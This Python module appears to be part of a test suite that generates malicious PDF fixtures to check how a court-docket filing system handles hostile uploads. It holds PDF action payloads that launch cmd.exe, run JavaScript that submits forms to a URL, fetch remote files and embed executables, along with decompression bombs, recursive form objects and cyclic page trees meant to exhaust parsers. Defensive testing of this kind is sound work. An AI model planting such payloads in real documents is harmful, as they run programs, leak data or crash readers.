"""PDFs that act, hide, lie or explode, where the PDF of a docket's entry is expected."""

import random
import zlib
from collections.abc import Iterator

import pdfs
from attacks import EITHER, Attack
from attacks.scene import Scene
from attacks.ways import Body, filing

_TEXT = pdfs.line("We share some portion of the revenue with our partners, as the agreement provides.")


def _acting(catalogue: str, *, page: str = "") -> bytes:
    """An honest page in a file whose catalogue, or page, does more. Its offsets are wrong, which is borne as well."""
    drawn = pdfs.drawn([[_TEXT]], annotations=page)
    return drawn.replace(b"/Type /Catalog", b"/Type /Catalog " + catalogue.encode(), 1)


ON_OPENING = {
    "JavaScript": "/S /JavaScript /JS (app.launchURL\\('{url}'\\); this.submitForm\\('{url}'\\);)",
    "a program": "/S /Launch /F ({file}) /Win << /F (cmd.exe) /P (/c calc) >>",
    "an address": "/S /URI /URI ({url})",
    "another file": "/S /GoToR /F << /FS /URL /F ({url}) >> /D [0 /Fit]",
    "an embedded file": "/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]",
    "a form that is sent": "/S /SubmitForm /F << /FS /URL /F ({url}) >> /Flags 4",
    "data of a form": "/S /ImportData /F << /FS /URL /F ({url}) >>",
    "one action after another": "/S /Named /N /Print /Next << /S /URI /URI ({url}) >>",
}
IN_THE_CATALOGUE = {
    "JavaScript by name": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (print\\(\\)) >>] >> >>",
    "an embedded file": "/Names << /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F 4 0 R >> >>] >> >>",
    "a form in XFA": "/AcroForm << /XFA [(template) 4 0 R] /NeedAppearances true >>",
    "an address for all links": "/URI << /Base ({url}) >>",
}
IN_THE_PAGE = {
    "a link": "/Subtype /Link /A << /S /URI /URI ({url}) >>",
    "a film": "/Subtype /Movie /Movie << /F << /FS /URL /F ({url}) >> >> /A true",
    "rich media": "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) << /FS /URL /F ({url}) >>] >> >>",
    "a file attached": "/Subtype /FileAttachment /FS << /FS /URL /F ({url}) >>",
    "an action of the mouse": "/Subtype /Widget /FT /Btn /AA << /PO << /S /URI /URI ({url}) >> >>",
}


def _actions() -> Iterator[Attack]:
    def told(text: str, scene: Scene) -> str:
        return text.replace("{url}", scene.inside.url).replace("{file}", str(scene.inside.file))

    def opening(action: str) -> Body:
        return lambda scene: _acting(f"/OpenAction << {told(action, scene)} >>")

    def catalogue(entry: str) -> Body:
        return lambda scene: _acting(told(entry, scene))

    def annotated(annotation: str) -> Body:
        return lambda scene: _acting("", page=f"<< /Type /Annot /Rect [0 0 600 700] {told(annotation, scene)} >>")

    for name, action in ON_OPENING.items():
        yield Attack(f"PDF: on opening, {name}", filing(opening(action)), "harmless")
    for name, entry in IN_THE_CATALOGUE.items():
        yield Attack(f"PDF: {name}", filing(catalogue(entry)), "harmless")
    for name, annotation in IN_THE_PAGE.items():
        yield Attack(f"PDF: in the page, {name}", filing(annotated(annotation)), "harmless")
    yield Attack("PDF: an image from elsewhere", filing(lambda s: _external_stream(s, image=True)), "harmless")
    yield Attack("PDF: a page from a file", filing(lambda s: _external_stream(s, image=False)), "harmless")


def _external_stream(scene: Scene, *, image: bool) -> bytes:
    """A stream whose bytes stand in another file (ISO 32000-1, 7.3.8.2): no reader of ours may open it."""
    at = f"/F << /FS /URL /F ({scene.inside.url}) >>" if image else f"/F ({scene.inside.file}) /FFilter []"
    drawn = pdfs.drawn([[_TEXT, pdfs.IMAGE]])
    return (
        drawn.replace(b"/Subtype /Image", f"/Subtype /Image {at}".encode())
        if image
        else drawn.replace(b"<<  /Length", f"<< {at} /Length".encode())
    )


def _explosions() -> Iterator[Attack]:
    nothing = b"\0" * 40_000_000
    yield Attack(
        "PDF: text without end, packed",
        filing(lambda s: pdfs.compressed(b"BT /F1 9 Tf (x) Tj ET\n" * (s.bounds.heavy // 25))),
        EITHER,
    )
    yield Attack("PDF: packed in packed in packed", filing(lambda s: _packed(nothing, 3)), "unreadable")
    yield Attack(
        "PDF: an image of 2^31 points",
        filing(
            lambda s: pdfs.drawn([[_TEXT, pdfs.scan()]]).replace(
                b"/Width 2 /Height 2", b"/Width 2147483647 /Height 2147483647"
            )
        ),
        "harmless",
    )
    yield Attack(
        "PDF: a page of 10^9 points",
        filing(lambda s: pdfs.drawn([[_TEXT]], media_box="0 0 1000000000 1000000000")),
        "harmless",
    )
    yield Attack("PDF: form in itself", filing(lambda s: _form_in_itself()), "unreadable")
    yield Attack("PDF: forms in forms", filing(lambda s: _forms(s, 3000)), "unreadable")
    yield Attack("PDF: forms that double", filing(lambda s: _doubling(40)), "unreadable")
    yield Attack(
        "PDF: pages in themselves",
        filing(
            lambda s: pdfs.of_objects(
                [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 >>"]
            )
        ),
        "unreadable",
        "damaged",
    )
    yield Attack("PDF: a hundred thousand pages", filing(lambda s: _many_pages(100_000)), "unreadable")
    yield Attack(
        "PDF: arrays in arrays",
        filing(
            lambda s: pdfs.of_objects(
                [
                    b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * (s.bounds.heavy // 2) + b" >>",
                    b"<< /Type /Pages /Kids [] /Count 0 >>",
                ]
            )
        ),
        "unreadable",
    )
    yield Attack("PDF: brackets in the page", filing(lambda s: pdfs.compressed(b"[" * s.bounds.heavy)), "unreadable")
    yield Attack(
        "PDF: states without end", filing(lambda s: pdfs.compressed(b"q " * (s.bounds.heavy // 2))), "unreadable"
    )
    yield Attack(
        "PDF: lines without end",
        filing(lambda s: pdfs.compressed(b"0 0 m 9 9 l S\n" * (s.bounds.heavy // 14))),
        "unreadable",
    )
    yield Attack(
        "PDF: boxes over words",
        filing(lambda s: pdfs.compressed(b"0 0 9 9 re f BT /F1 9 Tf (x) Tj ET\n" * (s.bounds.heavy // 250))),
        "unreadable",
    )
    yield Attack(
        "PDF: cross-reference in a circle",
        filing(lambda s: pdfs.drawn([[_TEXT]]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")),
        "harmless",
    )
    yield Attack("PDF: objects in objects", filing(lambda s: _object_stream()), "unreadable")
    yield Attack(
        "PDF: under a password", filing(lambda s: pdfs.locked(pdfs.drawn([[_TEXT]]))), "unreadable", "password"
    )
    yield Attack(
        "PDF: 25 MB of noise",
        filing(lambda s: b"%PDF-1.7\n" + random.Random(6).randbytes(s.bounds.heavy)),
        "unreadable",
    )
    yield Attack("PDF: header alone", filing(lambda s: b"%PDF-1.7\n" * (s.bounds.heavy // 9)), "unreadable")
    yield Attack(
        "PDF: obj obj obj", filing(lambda s: b"%PDF-1.7\n" + b"1 0 obj " * (s.bounds.heavy // 8)), "unreadable"
    )
    yield Attack(
        "PDF: trailers",
        filing(lambda s: b"%PDF-1.7\n" + b"trailer<</Root 1 0 R>>startxref 0 %%EOF\n" * (s.bounds.heavy // 40)),
        "unreadable",
    )
    yield Attack(
        "PDF: a page",
        filing(lambda s: "<html><form><input type=password></form></html>", "text/html"),
        "unreadable",
        "web page",
    )


def _packed(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    filters = " ".join(["/FlateDecode"] * times)
    return pdfs.of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            f"<< /Filter [{filters}] /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream",
        ]
    )


def _stream(entries: str, content: bytes) -> bytes:
    return f"<< {entries} /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"


def _with_forms(*forms: bytes) -> bytes:
    """The page draws the first of the forms, which are objects 6 and on."""
    return pdfs.of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources 5 0 R >>",
            _stream("", b"/X Do"),
            b"<< /XObject << /X 6 0 R >> >>",
            *forms,
        ]
    )


def _form(number: int, content: bytes) -> bytes:
    return _stream(
        f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {number} 0 R >> >>", content
    )


def _form_in_itself() -> bytes:
    return _with_forms(_form(6, b"/X Do /X Do"))


def _forms(_scene: Scene, depth: int) -> bytes:
    return _with_forms(*(_form(7 + at, b"/X Do") for at in range(depth)), _stream("", b""))


def _doubling(depth: int) -> bytes:
    return _with_forms(
        *(_form(7 + at, b"/X Do /X Do") for at in range(depth)), _stream("/Subtype /Form /BBox [0 0 9 9]", b"")
    )


def _many_pages(number: int) -> bytes:
    kids = b"3 0 R " * number
    return pdfs.of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % number,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    )


def _object_stream() -> bytes:
    """A stream of objects that says it is continued in itself."""
    inner = b"2 0 3 10 << /Type /Pages /Kids [3 0 R] /Count 1 >> << /Type /Page /Parent 2 0 R >>"
    return pdfs.of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _stream("/Type /ObjStm /N 99999999 /First 10 /Extends 2 0 R", inner),
        ]
    )


ATTACKS = (*_actions(), *_explosions())
